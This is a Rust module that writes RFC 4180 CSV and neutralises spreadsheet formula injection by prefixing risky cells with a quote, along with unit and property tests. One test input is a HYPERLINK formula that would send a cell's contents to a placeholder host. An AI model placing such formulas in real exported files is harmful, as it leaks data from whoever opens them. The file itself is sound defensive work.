//! The CSV the service writes (RFC 4180: comma, CRLF), with every cell that a spreadsheet
//! would read as a formula neutralised as OWASP's "CSV Injection" page says: a cell beginning
//! with `=`, `+`, `-`, `@`, tab or carriage return gets a single quote in front and is quoted.
//! A cell that is a plain decimal number (`-3`, `-0.5000`) is left as it is: it is data, not
//! a formula, and a spreadsheet must read it as a number
//! ([decision 0255](../../../docs/decisions/0255-csv-and-trf-output.md)).

/// Whether a cell is a plain decimal number: an optional minus, digits, and an optional
/// fraction of digits.
fn is_number(s: &str) -> bool {
    let digits = s.strip_prefix('-').unwrap_or(s);
    let (whole, fraction) = digits.split_once('.').unwrap_or((digits, "0"));
    !whole.is_empty()
        && !fraction.is_empty()
        && whole.bytes().all(|b| b.is_ascii_digit())
        && fraction.bytes().all(|b| b.is_ascii_digit())
}

/// One cell as written: neutralised when a spreadsheet would run it, quoted when it holds a
/// comma, a quote or a line break.
pub fn cell(s: &str) -> String {
    let formula = s.starts_with(['=', '+', '-', '@', '\t', '\r']) && !is_number(s);
    if formula {
        format!("\"'{}\"", s.replace('"', "\"\""))
    } else if s.contains([',', '"', '\n', '\r']) {
        format!("\"{}\"", s.replace('"', "\"\""))
    } else {
        s.to_string()
    }
}

/// One line of cells, ended by CRLF.
pub fn line(fields: &[String]) -> String {
    let mut l = fields.iter().map(|f| cell(f)).collect::<Vec<_>>().join(",");
    l.push_str("\r\n");
    l
}

#[cfg(test)]
mod tests {
    use super::*;
    use proptest::prelude::*;

    #[test]
    fn a_formula_is_neutralised_and_quoted() {
        assert_eq!(
            cell("=HYPERLINK(\"http://x/?d=\"&A1,\"Click\")"),
            "\"'=HYPERLINK(\"\"http://x/?d=\"\"&A1,\"\"Click\"\")\""
        );
        assert_eq!(cell("+31 6 1234"), "\"'+31 6 1234\"");
        assert_eq!(cell("-2+3"), "\"'-2+3\"");
        assert_eq!(cell("@SUM(A1)"), "\"'@SUM(A1)\"");
        assert_eq!(cell("\tx"), "\"'\tx\"");
        assert_eq!(cell("\rx"), "\"'\rx\"");
        assert_eq!(cell("-"), "\"'-\"");
    }

    #[test]
    fn numbers_and_plain_text_stay_as_they_are() {
        assert_eq!(cell("-3"), "-3");
        assert_eq!(cell("-0.5000"), "-0.5000");
        assert_eq!(cell("12.2500"), "12.2500");
        assert_eq!(cell("3-4"), "3-4");
        assert_eq!(cell("Jan de Vries"), "Jan de Vries");
        assert_eq!(cell("de Vries, Jan"), "\"de Vries, Jan\"");
        assert_eq!(cell("say \"hi\""), "\"say \"\"hi\"\"\"");
        assert_eq!(line(&["1".into(), "a,b".into()]), "1,\"a,b\"\r\n");
    }

    proptest! {
        #![proptest_config(ProptestConfig::with_cases(256))]

        /// No written cell starts with a character a spreadsheet runs, unless it is a number;
        /// and a quoted cell reads back (RFC 4180) as the text with at most the quote added.
        #[test]
        fn no_cell_starts_a_formula(s in "[=+\\-@\t\r\",a-z0-9.\n]{0,12}") {
            let out = cell(&s);
            let inner = out
                .strip_prefix('"')
                .and_then(|o| o.strip_suffix('"'))
                .map(|o| o.replace("\"\"", "\""));
            let read = inner.unwrap_or_else(|| out.clone());
            if !is_number(&read) {
                prop_assert!(!read.starts_with(['=', '+', '-', '@', '\t', '\r']), "{out:?}");
            }
            prop_assert!(read == s || read == format!("'{s}"), "{out:?}");
        }
    }
}
